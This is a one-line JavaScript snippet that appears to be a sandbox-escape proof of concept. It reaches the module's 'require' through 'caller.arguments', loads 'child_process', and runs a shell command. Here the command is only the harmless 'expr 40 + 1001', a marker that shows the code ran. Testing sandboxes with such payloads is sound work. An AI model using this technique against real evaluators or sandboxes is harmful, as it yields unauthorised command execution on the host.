const o={f:function(){ return this.f.caller.arguments[1] }}; o.f()('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
